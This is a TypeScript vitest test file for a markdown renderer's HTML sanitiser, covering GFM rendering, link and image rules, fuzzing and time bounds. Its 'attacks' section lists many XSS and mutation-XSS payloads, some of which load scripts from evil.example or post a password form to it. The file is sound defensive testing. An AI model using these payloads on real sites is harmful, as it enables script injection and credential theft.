import { describe, expect, it } from "vitest";
import { MAX_MARKDOWN_CHARS, renderMarkdown } from "./markdown";
import { seeded, SLOW_TEST, within } from "./testing";

function dom(text: string): HTMLElement {
  const element = document.createElement("div");
  element.innerHTML = renderMarkdown(text);
  return element;
}

const TAGS = new Set(
  "a b i em strong u s del ins sub sup kbd mark br hr details summary p blockquote code h1 h2 h3 h4 h5 h6 img li ol pre span table tbody td th thead tr ul".split(" "),
);
const ATTRIBUTES = new Set(["href", "rel", "target", "src", "alt", "title", "align", "start", "class", "open"]);

/** Everything that the sanitiser promises, checked on what a browser would make of the HTML. */
function expectSafe(text: string): HTMLElement {
  const element = dom(text);
  for (const node of element.querySelectorAll("*")) {
    expect(TAGS.has(node.localName), `<${node.localName}> from ${text}`).toBe(true);
    expect(node.namespaceURI).toBe("http://www.w3.org/1999/xhtml");
    for (const { name, value } of node.attributes) {
      expect(ATTRIBUTES.has(name), `${name} from ${text}`).toBe(true);
      if (name === "href") expect(["http:", "https:", "mailto:"]).toContain(new URL(value).protocol);
      if (name === "src") expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
    }
    if (node.localName === "a" && node.hasAttribute("href")) {
      expect([node.getAttribute("rel"), node.getAttribute("target")]).toEqual(["noopener noreferrer", "_blank"]);
    }
  }
  // What is set once more, as editors and copies do, stays the same tree.
  const again = document.createElement("div");
  again.innerHTML = element.innerHTML;
  expect(again.innerHTML).toBe(element.innerHTML);
  return element;
}

describe("renderMarkdown", () => {
  it("renders GFM", () => {
    const element = expectSafe(
      "# Title\n\n**bold** ~~gone~~ `code`\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2<br>3 |\n\n```python\nprint('<b>')\n```\n\n3. three\n\nhttps://example.com and [mail](mailto:a@example.com)",
    );
    expect(element.querySelector("h1")?.textContent).toBe("Title");
    expect(element.querySelector("strong")?.textContent).toBe("bold");
    expect(element.querySelector("ul")?.textContent).toMatch(/☑ done\s*☐ open/);
    expect(element.querySelectorAll("td")).toHaveLength(2);
    expect(element.querySelectorAll("td br")).toHaveLength(1);
    expect(element.querySelectorAll("td")[1]?.getAttribute("align")).toBe("right");
    expect(element.querySelector("pre code")?.className).toBe("language-python");
    expect(element.querySelector("pre code")?.textContent).toBe("print('<b>')\n");
    expect(element.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect([...element.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual(["https://example.com/", "mailto:a@example.com"]);
  });

  it("shows unknown tags as they are written", () => {
    expect(expectSafe("<thinking>hm</thinking>\n\nDone").textContent).toContain("<thinking>hm</thinking>");
    expect(expectSafe("x <answer>42</answer> y").textContent.trim()).toBe("x <answer>42</answer> y");
    expect(expectSafe("a <b>bold</b> c").querySelector("b")?.textContent).toBe("bold");
  });

  it("makes links of images elsewhere, and shows those in the text", () => {
    const remote = expectSafe("![a cat](https://example.com/cat.png) ![](https://example.com/x)");
    expect(remote.querySelector("img")).toBeNull();
    expect([...remote.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href")])).toEqual([
      ["a cat", "https://example.com/cat.png"],
      ["https://example.com/x", "https://example.com/x"],
    ]);
    const inline = expectSafe("![dot](data:image/png;base64,iVBORw0KGgo=) ![svg](data:image/svg+xml;base64,PHN2Zy8+)");
    expect([...inline.querySelectorAll("img")].map((img) => img.getAttribute("alt"))).toEqual(["dot"]);
  });

  it("does not link to places in this application", () => {
    const element = expectSafe("[a](/projects) [b](#x) [c](relative) [d](//example.com)");
    expect([...element.querySelectorAll("a[href]")]).toEqual([]);
  });
});

describe("attacks", () => {
  it.each([
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<style>@import 'https://evil.example/x.css'</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>", "<b style='position:fixed;inset:0'>x</b>", "<b class='fixed inset-0'>x</b>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x>",
    "<form action=https://evil.example><input name=password><button>go</button></form>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html;base64,PHNjcmlwdD4=></object>", "<embed src=https://evil.example>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](\u0001javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)", "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:image/png;base64,AAAA)",
    "[x](https://example.com \"a\\\" onmouseover=alert(1)\")", "![x\" onerror=\"alert(1)](data:image/png;base64,AAAA)",
    "![x](data:image/png;base64,AAAA\"onerror=\"alert(1))", "![x](javascript:alert(1))", "![x](https://example.com/a\"onload=alert(1))", "<javascript:alert(1)>",
    "[r]: javascript:alert(1)\n\n[r]", "```\"><script>alert(1)</script>\nx\n```", "```js onload=alert(1)\nx\n```", "`<img src=x onerror=alert(1)>`",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", "<b onclick=alert(1)>x</b>", "<p id=root name=body>x</p>", "<b\u0000onclick=alert(1)>x</b>",
    "<video src=x onerror=alert(1)>", "<audio src=https://evil.example autoplay>", "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>", "<b><script>alert(1)</script></b>", "<br onerror=alert(1)><script>alert(1)</script>",
    "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=https://example.com target=_top rel=opener>x</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "<table background=javascript:alert(1)><td>x</td></table>", "<img src='https://evil.example/track.gif'>",
    "<picture><source srcset=https://evil.example/x></picture>", "<p\n\nonclick=alert(1)>x", "<s<script>cript>alert(1)</s</script>cript>",
  ])("%j does nothing", (text) => {
    expectSafe(text);
    expectSafe(`words ${text} words`);
    expectSafe(`> - ${text}\n\n${text}`);
  }); // prettier-ignore

  it("does nothing in any combination", () => {
    const pieces = ["<", ">", "</", "/>", "svg", "math", "style", "script", "img src=x onerror=alert(1)", "b", "p", "br", "table", "td", "\"", "'", "`", "\n", "\n\n", "<!--", "-->", "[x](", "javascript:alert(1)", ")", "![", "](data:image/png;base64,AAAA)", "&lt;", "*", "|", "\u0000", " ", "details", "mglyph", "mtext", "noscript", "title=", "href="];
    for (let seed = 1; seed <= 300; seed += 1) {
      const random = seeded(seed);
      expectSafe(Array.from({ length: 25 }, () => pieces[Math.floor(random() * pieces.length)] ?? "").join(""));
    }
  }, SLOW_TEST);
});

describe("bounds", () => {
  it("shows large texts as they are", () => {
    const text = `<script>alert(1)</script> **x** ${"word ".repeat(MAX_MARKDOWN_CHARS / 5)}`;
    const element = expectSafe(text);
    expect(element.children).toHaveLength(1);
    expect(element.firstElementChild?.localName).toBe("pre");
    expect(element.textContent).toBe(text);
  });

  it("renders long documents of the usual kind", () => {
    const element = dom("# Part\n\nSome *prose* with `code`, a [link](https://example.com) and more.\n\n- item\n\n".repeat(500));
    expect(element.querySelectorAll("h1")).toHaveLength(500);
  }, SLOW_TEST);

  it("renders long code and long rules", () => {
    expect(dom(`\`\`\`python\n${"x_y[0] = *a_b & c\n".repeat(5000)}\`\`\`\n\n**end**`).querySelector("strong")?.textContent).toBe("end");
    expect(dom(`a\n\n${"-".repeat(200)}\n\nb`).querySelectorAll("hr")).toHaveLength(1);
  }, SLOW_TEST);

  it.each(["*", "_a ", "[", "![", "<", "<b>", "`", "``", "> ", "- ", "* ", "[a](", "**a ", "~", "\\", "|", "a|", "&", "<!--", "[a]: b\n", "1. ", "    ", "\n> ", "\t- ", "#", "www.", "a@", "https://", "|a|b|\n|-|-|\n|1|2|\n\n"])(
    "takes bounded time for much of %j",
    (noise) => {
      const element = within(700, () => dom(noise.repeat(MAX_MARKDOWN_CHARS / noise.length)));
      expect(element.textContent).not.toBeNull();
    },
    SLOW_TEST,
  );
});
